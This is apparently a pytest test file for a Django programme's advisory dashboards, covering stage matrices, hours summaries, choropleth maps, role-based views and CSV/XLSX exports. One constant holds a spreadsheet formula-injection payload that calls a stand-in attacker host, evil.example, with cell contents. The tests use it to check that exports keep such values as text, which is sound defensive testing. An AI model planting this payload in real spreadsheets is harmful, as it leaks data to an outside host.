"""The advisory dashboards: the coordinator's stage matrix (rows, the programme's stage names, stages switched
off), map and its table, hours by form / expert / local government, overdue follow-ups and their exports (a
poisoned name stays text); the expert's and the local government's own view; bad filters; query budgets."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone

from rozwoj.accounts.tests.factories import user_with_role
from rozwoj.core.testing import assert_page
from rozwoj.events.tests.factories import EventFactory, SessionFactory
from rozwoj.organisations.tests.factories import GminaFactory, LocalGovernmentOfficeFactory
from rozwoj.people.tests.factories import person_with_login

from .. import maps
from ..models import StageKind, SupportHours, SupportLogEntry
from ..selectors import dashboards
from ..services import support_log
from ..services.programme_settings import programme_settings_save
from ..services.support_hours import hours_recount_all
from .factories import CallFactory, engagement_with_team, support_area, support_form
from .hdr_helpers import drafted_hdr, lg_member_of, published_hdr

pytestmark = pytest.mark.django_db
POISON = '=HYPERLINK("http://evil.example/?"&A1,"x")'
DASHBOARD = "advisory/dashboards/dashboard.html"


def _log(engagement, hours="2", overdue=True):
    adviser = engagement.ros_expert.person.user
    member = engagement.members.select_related("person").first()
    return support_log.entry_save(
        actor=adviser,
        engagement=engagement,
        data={
            "form": support_form(),
            "date": datetime.date.today() - datetime.timedelta(days=10),
            "hours": Decimal(hours),
            "notes": "",
        },
        experts=[engagement.ros_expert, engagement.pro_expert],
        attendees=[member],
        follow_ups=[
            {
                "text": "Plan doskonalenia",
                "owner": member.person,
                "due_on": datetime.date.today() - datetime.timedelta(days=3 if overdue else -3),
            }
        ],
    )


@pytest.fixture
def coordinator_client(client):
    client.force_login(user_with_role("coordinator"))
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


def _cycle(count):
    call = CallFactory(places=50)
    engagements = [engagement_with_team(call=call) for _ in range(count)]
    for engagement in engagements:
        _log(engagement)
    return call, engagements


@pytest.mark.parametrize("count", [1, 5])
def test_the_coordinators_dashboard_within_one_budget_whatever_the_rows(coordinator_client, count):
    call, engagements = _cycle(count)
    url = reverse("advisory:dashboard") + f"?call={call.pk}"
    # the hours by form, by expert and by local government: the kept sums, then the names (two queries each)
    response = assert_page(coordinator_client, url, queries=20, template=DASHBOARD)
    body = response.content.decode()
    for engagement in engagements:
        assert engagement.local_government.name in body
    assert "<svg" in body
    assert "<path" in body
    assert "Overdue follow-ups" in body
    assert_page(coordinator_client, url + "&level=powiat", queries=20, template=DASHBOARD)


def test_the_matrix_has_a_row_per_engagement_with_the_programmes_stage_names(coordinator_client):
    call, engagements = _cycle(2)
    coordinator = user_with_role("coordinator")
    names = {kind: "" for kind in StageKind.values}
    stages = {kind: {"name": "", "enabled": True} for kind in StageKind.values}
    stages[StageKind.SUPPORT_AREA]["name"] = "Wybór obszaru"
    stages[StageKind.EVALUATION]["enabled"] = False
    assert names
    programme_settings_save(
        actor=coordinator, programme=call.programme, ros_role_name="", pro_role_name="", stages=stages
    )
    columns = dashboards.stage_columns(call)
    assert columns[0] == (StageKind.SUPPORT_AREA, "Wybór obszaru")
    assert StageKind.EVALUATION not in [kind for kind, _name in columns]
    matrix = dashboards.stage_matrix(dashboards.scope(coordinator, call=call), columns)
    assert [row["id"] for row in matrix] == sorted(
        (e.pk for e in engagements),
        key=lambda pk: next(e.local_government.name for e in engagements if e.pk == pk),
    )
    assert all(len(row["cells"]) == len(columns) for row in matrix)
    assert all(row["cells"][0]["status"] == "not_started" for row in matrix)
    body = coordinator_client.get(reverse("advisory:dashboard") + f"?call={call.pk}").content.decode()
    assert "Wybór obszaru" in body


def test_hours_and_the_map_count_what_was_logged():
    call, engagements = _cycle(2)
    _log(engagements[0], hours="3.5")
    coordinator = user_with_role("coordinator")
    scope = dashboards.scope(coordinator, call=call)
    by_form = dashboards.hours_by_form(scope)
    assert dashboards.total_hours(by_form) == Decimal("7.5")
    by_expert = {row["expertprofile_id"]: row["hours"] for row in dashboards.hours_by_expert(scope)}
    assert by_expert[engagements[0].ros_expert_id] == Decimal("5.5")
    by_lg = {
        row["engagement__local_government__name"]: row["hours"]
        for row in dashboards.hours_by_local_government(scope)
    }
    assert by_lg[engagements[0].local_government.name] == Decimal("5.5")
    counts = dashboards.map_counts(scope, layer="engagements", level="voivodeship")
    assert sum(counts.values()) == 2
    assert set(counts) == {e.local_government.terc[:2] for e in engagements}
    drawn = maps.choropleth("voivodeship", counts)
    assert len(drawn["shapes"]) == 16
    shaded = {shape.terc: shape.shade for shape in drawn["shapes"] if shape.count}
    assert all(shade >= 1 for shade in shaded.values())
    powiats = maps.choropleth("powiat", dashboards.map_counts(scope, layer="engagements", level="powiat"))
    assert len(powiats["shapes"]) == 380
    assert len(list(dashboards.overdue_follow_ups(scope))) == 3


def test_hours_of_one_local_government_in_two_cycles_add_up_and_experts_are_named_most_hours_first():
    first = engagement_with_team(call=CallFactory(places=50))
    again = engagement_with_team(call=CallFactory(places=50), local_government=first.local_government)
    _log(first, hours="2")
    _log(again, hours="4.5")
    everything = dashboards.scope(user_with_role("coordinator"))
    (row,) = dashboards.hours_by_local_government(everything)
    assert row == {
        "engagement__local_government__name": first.local_government.name,
        "engagement__local_government__terc": first.local_government.terc,
        "hours": Decimal("6.5"),
        "entries": 2,
    }
    by_expert = dashboards.hours_by_expert(everything)
    assert [r["hours"] for r in by_expert] == [Decimal("4.5")] * 2 + [Decimal("2")] * 2
    assert [r["entries"] for r in by_expert] == [1, 1, 1, 1]
    top = {r["expertprofile_id"]: r for r in by_expert[:2]}
    for expert in (again.ros_expert, again.pro_expert):
        assert top[expert.pk]["expertprofile__person__first_name"] == expert.person.first_name
        assert top[expert.pk]["expertprofile__person__last_name"] == expert.person.last_name
    assert [r["expertprofile__person__last_name"] for r in by_expert[:2]] == sorted(
        [again.ros_expert.person.last_name, again.pro_expert.person.last_name]
    )


def test_the_map_shade_scale():
    assert maps.shade_of(0, 10) == 0
    assert maps.shade_of(1, 10) == 1
    assert maps.shade_of(10, 10) == maps.SHADES
    with pytest.raises(ValueError):
        maps.choropleth("gmina", {})


def test_a_registered_map_layer_is_offered(coordinator_client):
    layer = dashboards.MapLayer("test-layer", "Published test things", lambda engagements, digits: {"14": 7})
    dashboards.register_map_layer(layer)
    try:
        body = coordinator_client.get(reverse("advisory:dashboard") + "?layer=test-layer").content.decode()
        assert "Published test things" in body
        assert ">7<" in body
    finally:
        dashboards.MAP_LAYERS.pop("test-layer")


@pytest.mark.parametrize(
    "query",
    ["call=abc", "call=99999999999999999999", "call=-1", "level=gmina", "layer=nothing", "call=&level="],
)
def test_bad_filters_are_a_message_not_an_error(coordinator_client, query):
    response = coordinator_client.get(reverse("advisory:dashboard") + "?" + query)
    assert response.status_code == 200
    assert "<svg" in response.content.decode()  # the defaults are shown


@pytest.mark.parametrize(
    "kind", ["matrix", "hours-form", "hours-expert", "hours-local-government", "hdrs-area", "overdue"]
)
def test_exports_keep_poisoned_names_as_text(coordinator_client, kind):
    engagement = engagement_with_team(local_government=GminaFactory(name=POISON))
    person = engagement.ros_expert.person
    person.first_name = POISON
    person.save()
    _log(engagement)
    if kind == "hdrs-area":
        drafted_hdr(area=support_area(name=POISON))
    url = reverse("advisory:dashboard_export", args=[kind, "csv"])
    response = coordinator_client.get(url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    if kind != "hours-form":  # forms of support are the coordinators' own list
        assert any(POISON in cell for cell in cells), kind
    assert not any(cell.startswith("=") for cell in cells), kind
    response = coordinator_client.get(reverse("advisory:dashboard_export", args=[kind, "xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response))).active
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", kind


def test_exports_are_for_coordinators_and_unknown_ones_404(client, coordinator_client):
    assert coordinator_client.get("/advisory/dashboard/nothing.csv").status_code == 404
    assert coordinator_client.get("/advisory/dashboard/matrix.pdf").status_code == 404
    expert = engagement_with_team().ros_expert.person.user
    client.force_login(expert)
    assert client.get(reverse("advisory:dashboard_export", args=["matrix", "csv"])).status_code == 403


def test_the_expert_sees_their_local_governments_hours_and_follow_ups(client):
    mine = engagement_with_team()
    other = engagement_with_team()
    _log(mine, hours="4")
    _log(other)
    client.force_login(mine.ros_expert.person.user)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    response = assert_page(client, reverse("advisory:dashboard"), queries=14, template=DASHBOARD)
    body = response.content.decode()
    assert mine.local_government.name in body
    assert other.local_government.name not in body
    assert "My hours" in body
    assert "Hours in all: 4" in body
    assert "Plan doskonalenia" in body


def test_the_local_government_sees_our_cycle_and_next_meeting(client):
    engagement = engagement_with_team()
    office = LocalGovernmentOfficeFactory(local_government=engagement.local_government)
    member = person_with_login("local_government_member", organisation=office)
    other = engagement_with_team()
    event = EventFactory(programme=engagement.call.programme, title="Warsztaty rundy drugiej")
    SessionFactory(event=event, starts_at=timezone.now() + datetime.timedelta(days=5))
    EventFactory(programme=other.call.programme, title="Spotkanie innego programu")
    client.force_login(member.user)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    body = assert_page(client, reverse("advisory:dashboard"), queries=14, template=DASHBOARD).content.decode()
    assert "Our cycle" in body
    assert engagement.local_government.name in body
    assert other.local_government.name not in body
    assert "Warsztaty rundy drugiej" in body
    assert "Spotkanie innego programu" not in body
    assert "My hours" not in body


def test_anonymous_visitors_are_sent_to_log_in(client):
    response = client.get(reverse("advisory:dashboard"))
    assert response.status_code == 302


def test_published_hdrs_on_the_map_and_hdrs_by_support_area(coordinator_client):
    call = CallFactory(places=50)
    first, second = support_area(), support_area(name="Zarządzanie finansami")
    published = [published_hdr(call=call, area=first) for _ in range(2)]
    drafted_hdr(call=call, area=first)
    drafted_hdr(call=call, area=second)
    coordinator = user_with_role("coordinator")
    scope = dashboards.scope(coordinator, call=call)

    counts = dashboards.map_counts(scope, layer="hdrs", level="voivodeship")
    assert sum(counts.values()) == 2
    assert set(counts) == {hdr.engagement.local_government.terc[:2] for hdr in published}
    powiats = dashboards.map_counts(scope, layer="hdrs", level="powiat")
    assert set(powiats) == {hdr.engagement.local_government.terc[:4] for hdr in published}

    rows = {row["engagement__support_area__name"]: row for row in dashboards.hdrs_by_support_area(scope)}
    assert (rows[first.name]["published"], rows[first.name]["drafting"], rows[first.name]["total"]) == (
        2,
        1,
        3,
    )
    assert (rows[second.name]["published"], rows[second.name]["drafting"]) == (0, 1)

    url = reverse("advisory:dashboard") + f"?call={call.pk}&layer=hdrs"
    # the same budget as the engagements layer's (the hours summed by id, then named)
    body = assert_page(coordinator_client, url, queries=19, template=DASHBOARD).content.decode()
    assert "Map: Published HDRs" in body
    assert "HDRs by support area" in body
    assert "Zarządzanie finansami" in body
    response = coordinator_client.get(reverse("advisory:dashboard_export", args=["hdrs-area", "csv"]))
    lines = list(csv.reader(io.StringIO(b"".join(response).decode("utf-8-sig"))))
    assert lines[0] == ["Support area", "HDRs being drafted", "Approved HDRs", "Published HDRs", "All HDRs"]
    assert [first.name, "1", "0", "2", "3"] in lines


def test_the_hours_on_the_dashboard_follow_every_change_of_the_support_log(coordinator_client):
    call, (engagement,) = _cycle(1)
    url = reverse("advisory:dashboard") + f"?call={call.pk}"

    def hours_in_all():
        body = coordinator_client.get(url).content.decode()
        return Decimal(body.split("Hours in all: ", 1)[1].split(".<", 1)[0])

    assert hours_in_all() == 2
    entry = _log(engagement, hours="3.5")
    assert hours_in_all() == Decimal("5.5")  # a new entry, through the service
    support_log.entry_delete(actor=engagement.ros_expert.person.user, entry=entry)
    assert hours_in_all() == 2
    type(entry).objects.filter(engagement=engagement).delete()  # as the admin or a cascade would
    assert "No support logged yet." in coordinator_client.get(url).content.decode()

    _log(engagement, hours="4")
    person = engagement.pro_expert.person
    person.last_name = "Przemianowana"
    person.save()
    body = coordinator_client.get(url).content.decode()
    assert "Przemianowana" in body  # the names are never kept with the sums
    assert hours_in_all() == 4
    entry = engagement.log_entries.get()
    entry.hours = Decimal("1.5")
    entry.save()  # as the admin would
    assert hours_in_all() == Decimal("1.5")
    entry.experts.remove(engagement.pro_expert)
    body = coordinator_client.get(url).content.decode()
    assert "Przemianowana" not in body.split('id="hours-expert"', 1)[1].split('id="hours-lg"', 1)[0]


def test_the_kept_hours_are_the_sums_of_the_entries_and_counted_again_in_full():
    call, engagements = _cycle(3)
    _log(engagements[0], hours="3.5")
    expected_by_expert = {}
    for entry in SupportLogEntry.objects.prefetch_related("experts"):
        for expert in entry.experts.all():
            expected_by_expert[expert.pk] = expected_by_expert.get(expert.pk, 0) + entry.hours
    scope = dashboards.scope(user_with_role("coordinator"), call=call)

    def kept():
        return (
            {row["expertprofile_id"]: row["hours"] for row in dashboards.hours_by_expert(scope)},
            dashboards.total_hours(dashboards.hours_by_form(scope)),
        )

    assert kept() == (expected_by_expert, Decimal("9.5"))
    SupportHours.objects.all().delete()  # what a bulk write leaves: nothing kept
    assert hours_recount_all() == len(engagements) + 2 * len(engagements)  # a form and two experts each
    assert kept() == (expected_by_expert, Decimal("9.5"))


def test_the_page_shows_the_experts_and_local_governments_with_the_most_hours(coordinator_client):
    call, engagements = _cycle(3)
    _log(engagements[1], hours="9")
    dashboards_module = dashboards
    shown = dashboards_module.HOURS_SHOWN
    dashboards_module.HOURS_SHOWN = 1
    try:
        body = coordinator_client.get(reverse("advisory:dashboard") + f"?call={call.pk}").content.decode()
    finally:
        dashboards_module.HOURS_SHOWN = shown
    hours_section = body.split('id="hours-lg"', 1)[1].split("</section>", 1)[0]
    assert engagements[1].local_government.name in hours_section
    assert engagements[0].local_government.name not in hours_section
    assert "Only the 1 with the most hours is shown here" in body


def test_the_local_government_sees_our_hdr_on_its_dashboard(client):
    hdr = drafted_hdr()
    member = lg_member_of(hdr.engagement)
    client.force_login(member)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    body = assert_page(client, reverse("advisory:dashboard"), queries=14, template=DASHBOARD).content.decode()
    assert reverse("advisory:hdr", args=[hdr.engagement.pk]) in body
    assert "Development action schedule (HDR)</a>: draft" in body
